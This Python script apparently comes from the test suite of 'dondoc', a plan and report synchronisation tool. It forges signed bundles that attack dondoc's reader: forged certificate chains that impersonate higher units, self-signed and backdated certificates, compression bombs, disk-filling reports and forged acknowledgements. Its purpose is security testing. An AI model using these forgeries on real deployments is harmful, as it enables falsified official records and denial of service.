#!/usr/bin/env python3
"""attack.py - bundles an attacker would build, written byte by byte from the
format (wire.c's header comment and README's SECURITY section), signed with
real keys through PyNaCl. Nothing here calls dondoc's own writer, so a bug
in core/wire.c cannot hide the same bug in the reader.

    attack.py ATTACK --db DB --keys DIR [--as CODE] [--to CODE] -o OUT [options]

DB is the attacker's own database (what a commune's computer holds: the
unit tree, the plans, its key's chain), DIR its XDG_DATA_HOME (the secret
keys), --as the unit whose key signs (default: the acting unit). Exits 77
when PyNaCl is missing (Debian: python3-nacl). The attacks are listed in
ATTACKS below, one function each.
"""
import argparse
import hashlib
import os
import random
import sqlite3
import struct
import sys
import time
import zlib

try:
    import nacl.signing
except ImportError:
    print("attack.py: PyNaCl is missing (apt-get install python3-nacl)", file=sys.stderr)
    sys.exit(77)

ID_LEN, CERT_LEN, SIG_LEN = 26, 200, 64
PLAN, REPORT = 1, 2
SCHEMA = 9
ALPHABET = "0123456789abcdefghjkmnpqrstvwxyz"
NOW = int(time.time())


class Key:
    """An Ed25519 key: from a secret key file of 'dondoc key init', or new."""

    def __init__(self, path=None):
        if path is None:
            self.sk = nacl.signing.SigningKey.generate()
        else:
            for line in open(path):
                if line.startswith("secret "):
                    self.sk = nacl.signing.SigningKey(bytes.fromhex(line.split()[1])[:32])
        self.pk = bytes(self.sk.verify_key)

    def sign(self, data):
        return self.sk.sign(data).signature


def new_gid():
    return "".join(random.choice(ALPHABET) for _ in range(ID_LEN))


def gid(g):
    return (g or "").encode().ljust(ID_LEN, b"\0")


def ns(x):
    x = x.encode() if isinstance(x, str) else x
    return b"%d:%s," % (len(x), x)


def cert(subject_gid, subject_pk, issuer_gid, issuer_key, valid_from=None, valid_until=None):
    """A certificate: issuer_key vouches that subject_pk is subject_gid's."""
    body = (b"DDC1" + subject_pk + issuer_key.pk +
            struct.pack(">qq", NOW - 86400 if valid_from is None else valid_from,
                        NOW + 365 * 86400 if valid_until is None else valid_until) +
            gid(subject_gid) + gid(issuer_gid))
    return body + issuer_key.sign(body)


def batch(kind, origin_gid, key, chain, first, last, raw, created=NOW, declared=None):
    comp = zlib.compress(raw, 9)
    head = (b"DDBT" + bytes([kind, len(chain) // CERT_LEN, 0, 0]) + gid(origin_gid) + key.pk +
            struct.pack(">qqqII", created, first, last,
                        len(raw) if declared is None else declared, len(comp)))
    body = head + chain + comp
    body += key.sign(body)
    return struct.pack(">I", len(body)) + body


def bundle(kind, sender_gid, recipient_gid, key, batches, chain=b"", acks=(), created=NOW):
    head = (b"DONDOCB1" + struct.pack(">H", SCHEMA) + bytes([kind, 0]) +
            struct.pack(">q", created) + gid(sender_gid) + gid(recipient_gid) + key.pk +
            struct.pack(">HHHH", len(chain) // CERT_LEN, len(acks), len(batches), 0))
    data = head + chain + b"".join(acks) + b"".join(batches)
    return data + key.sign(data)


def ack(origin_gid, upto, check=0, digest=b"\0" * 16):
    return gid(origin_gid) + struct.pack(">qq", upto, check) + digest


def record(seq, task_gid, note="", status="done", progress="100", unit_gid="", period="2024Q2",
           clock=None, evidence=""):
    clock = clock if clock is not None else (NOW * 1000 << 16) + seq
    return (ns("record") + ns(str(seq)) + ns("") + ns(task_gid) + ns(unit_gid) + ns(period) +
            ns(status) + ns(progress) + ns(note) + ns(evidence) +
            ns("2024-05-20" if status == "done" else "") + ns("2024-05-20T08:00:00Z") +
            ns(str(clock)) + ns("0"))


def row(kind, *fields):
    return ns(kind) + ns(b"".join(ns(f) for f in fields))


class World:
    """What the attacker's database says: unit gids by code, task gids, its
    own key and chain."""

    def __init__(self, args):
        self.db = sqlite3.connect(args.db)
        self.keys = os.path.join(args.keys, "dondoc", "keys")
        acting = self.one("SELECT value FROM setting WHERE key = 'acting_unit'")
        self.me = args.as_ or acting
        self.key = self.secret(self.me)
        self.chain = self.one("SELECT k.certificate FROM unit_key k JOIN unit u ON "
                              "u.id = k.unit_id WHERE u.code = ? AND k.public_key = ?",
                              self.me, self.key.pk) or b""
        self.to = args.to

    def one(self, sql, *a):
        r = self.db.execute(sql, a).fetchone()
        return r[0] if r else None

    def unit(self, code):
        g = self.one("SELECT gid FROM unit WHERE code = ?", code)
        if not g:
            sys.exit("attack.py: no unit %s in the attacker's database" % code)
        return g

    def task(self, number):
        return self.one("SELECT gid FROM task WHERE number = ? ORDER BY id", number)

    def secret(self, code):
        return Key(os.path.join(self.keys, self.unit(code) + ".key"))

    def last_seq(self, code):
        return self.one("SELECT coalesce(max(seq), 0) FROM change_log c JOIN unit u ON "
                        "u.id = c.origin_id WHERE u.code = ?", code)

    def report(self, entries, origin=None, key=None, chain=None, first=None, created=NOW,
               acks=(), sender=None):
        """A report bundle of one batch of these entries (seq, payload)."""
        origin = origin or self.me
        key = key or self.key
        chain = self.chain if chain is None else chain
        seqs = [s for s, _ in entries]
        b = batch(REPORT, self.unit(origin), key, chain, first or min(seqs), max(seqs),
                  b"".join(p for _, p in entries), created=created)
        return bundle(REPORT, self.unit(sender or origin), self.unit(self.to) if self.to else "",
                      key, [b], acks=acks, created=created)


def forged_chain(w, subject, key):
    """The hole of issue 11: [key for SUBJECT, issued by an invented unit Z
    with the attacker's key] -> [Z's key = the attacker's key, issued by the
    attacker] -> the attacker's real chain."""
    z = new_gid()
    return (cert(w.unit(subject), key.pk, z, w.key) + cert(z, w.key.pk, w.unit(w.me), w.key) +
            w.chain)


def forge_plan(w, a):
    """A plan bundle 'from the province': its plan retitled, every task gone."""
    key = Key()
    plan_gid, plan_number, years = w.db.execute(
        "SELECT p.gid, p.number, p.start_year FROM plan p JOIN unit u ON u.id = p.issuer_id "
        "WHERE u.code = ?", (a.victim,)).fetchone()
    raw = row("plan", plan_gid, w.unit(a.victim), plan_number, "", "Kế hoạch đã bị thay",
              str(years), str(years), "calendar", "")
    b = batch(PLAN, w.unit(a.victim), key, forged_chain(w, a.victim, key), 1000, 1000, raw)
    return bundle(PLAN, w.unit(a.victim), w.unit(w.to) if w.to else "", key, [b])


def forge_report(w, a):
    """A report 'from the district' whose clock outranks every later edit."""
    key = Key()
    entry = record(1000, w.task("1"), "giả mạo", clock=10 ** 18)
    return w.report([(1000, entry)], origin=a.victim, key=key,
                    chain=forged_chain(w, a.victim, key), first=1000)


def sibling(w, a):
    """A record 'of a sibling commune', its key certified by the attacker."""
    key = Key()
    chain = cert(w.unit(a.victim), key.pk, w.unit(w.me), w.key) + w.chain
    return w.report([(1, record(1, w.task(a.task), "của xã bên cạnh"))], origin=a.victim, key=key,
                    chain=chain, first=1)


def self_signed(w, a):
    """The attacker's unit with a new key that certifies itself."""
    key = Key()
    chain = cert(w.unit(w.me), key.pk, w.unit(w.me), key)
    return w.report([(1, record(1, w.task(a.task)))], key=key, chain=chain, first=1)


def old_cert(w, a):
    """A certificate the unit above once issued, expired (or not valid yet),
    with 'created' backdated into its validity."""
    above = Key(os.path.join(a.issuer_keys, "dondoc", "keys", w.unit(a.issuer) + ".key"))
    if a.future:
        start, until, created = NOW + 30 * 86400, NOW + 400 * 86400, NOW
    else:
        start, until, created = 1577836800, 1609459200, 1590969600  # 2020 to 2021; June 2020
    chain = cert(w.unit(w.me), w.key.pk, w.unit(a.issuer), above, start, until)
    chain += w.chain[CERT_LEN:]          # the issuer's own chain, as the attacker holds it
    seq = w.last_seq(w.me) + 1
    return w.report([(seq, record(seq, w.task(a.task)))], chain=chain, created=created)


def upward(w, a):
    """The attacker's own plan, its task assigned to the units above it."""
    plan, task = new_gid(), new_gid()
    raw = row("plan", plan, w.unit(w.me), "99/KH-XA", "2024-05-01", "Kế hoạch của xã",
              "2024", "2024", "calendar", "")
    raw += row("task", task, plan, "", "", "1", "1", "Việc giao ngược lên", "", "", "", "Quý II/2024",
               "quarter", "2024-04-01", "2024-06-30", "", "viec giao nguoc len")
    for code in a.assign.split(","):
        raw += row("assign", new_gid(), task, w.unit(code), "", "lead", "")
    b = batch(PLAN, w.unit(w.me), w.key, w.chain, 1000, 1000, raw)
    return bundle(PLAN, w.unit(w.me), w.unit(w.to) if w.to else "", w.key, [b])


def big_note(w, a):
    """One record whose note is a.size bytes: 'x' repeated (a bomb), or
    random letters that do not compress."""
    seq = w.last_seq(w.me) + 1
    if a.random:
        note = "".join(random.choice("abcdefghijklmnopqrstuvwxyz ") for _ in range(a.size))
    else:
        note = "x" * a.size
    return w.report([(seq, record(seq, w.task(a.task), note, status="doing", progress="10"))])


def many(w, a):
    """a.count one-entry batches of the attacker's log, each signed, each
    with its chain, as a commune exporting after every change would send."""
    start = a.start or w.last_seq(w.me) + 1
    batches = []
    for i in range(a.count):
        seq = start + i
        raw = record(seq, w.task(a.task), "lần %d" % seq, status="doing", progress=str(seq % 100))
        batches.append(batch(REPORT, w.unit(w.me), w.key, w.chain, seq, seq, raw))
    return bundle(REPORT, w.unit(w.me), w.unit(w.to) if w.to else "", w.key, batches)


def big(w, a):
    """An honest-looking report of a.count entries with incompressible notes
    of a.size bytes (to fill a disk)."""
    start = w.last_seq(w.me) + 1
    entries = []
    for i in range(a.count):
        note = "".join(random.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(a.size))
        entries.append((start + i, record(start + i, w.task(a.task), note, status="doing",
                                          progress=str(i % 100))))
    return w.report(entries)


def acks(w, a):
    """Acknowledgements about a log: in a report bundle, or in a plan bundle
    with no batches. --upto N, or 'past' (the log's end plus 100, vouching
    for its real last entry, as a forger who read the log would)."""
    target = a.about or w.me
    if a.upto == "past":
        seq, payload = w.db.execute(
            "SELECT c.seq, c.payload FROM change_log c JOIN unit u ON u.id = c.origin_id "
            "WHERE u.code = ? AND c.entity <> 'gap' ORDER BY c.seq DESC LIMIT 1",
            (target,)).fetchone()
        if isinstance(payload, str):
            payload = payload.encode()
        items = [ack(w.unit(target), seq + 100, seq, hashlib.blake2b(payload, digest_size=16)
                     .digest())]
    else:
        items = [ack(w.unit(target), int(a.upto))]
    if a.kind == "report":
        seq = w.last_seq(w.me) + 1
        return w.report([(seq, record(seq, w.task(a.task)))], acks=items)
    return bundle(PLAN, w.unit(w.me), w.unit(w.to) if w.to else "", w.key, [], chain=w.chain,
                  acks=items)


def dated(w, a):
    """A report of one new entry, made a.shift seconds from now."""
    seq = w.last_seq(w.me) + 1
    return w.report([(seq, record(seq, w.task(a.task), "ghi lại"))], created=NOW + a.shift)


ATTACKS = {f.__name__.replace("_", "-"): f for f in
           (forge_plan, forge_report, sibling, self_signed, old_cert, upward, big_note, many,
            big, acks, dated)}


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    p.add_argument("attack", choices=sorted(ATTACKS))
    p.add_argument("--db", required=True)
    p.add_argument("--keys", required=True)
    p.add_argument("--as", dest="as_")
    p.add_argument("--to")
    p.add_argument("-o", dest="out", required=True)
    p.add_argument("--victim", default="KH")
    p.add_argument("--task", default="1")
    p.add_argument("--issuer")
    p.add_argument("--issuer-keys", help="the XDG_DATA_HOME that holds the issuer's key")
    p.add_argument("--future", action="store_true")
    p.add_argument("--assign", default="KH-NT,KH")
    p.add_argument("--size", type=int, default=60 << 20)
    p.add_argument("--random", action="store_true")
    p.add_argument("--count", type=int, default=1000)
    p.add_argument("--start", type=int, default=0, help="many: the first sequence number")
    p.add_argument("--kind", default="report")
    p.add_argument("--about")
    p.add_argument("--upto", default=str(2 ** 63 - 1))
    p.add_argument("--shift", type=int, default=0)
    a = p.parse_args()
    w = World(a)
    data = ATTACKS[a.attack](w, a)
    with open(a.out, "wb") as f:
        f.write(data)


if __name__ == "__main__":
    main()
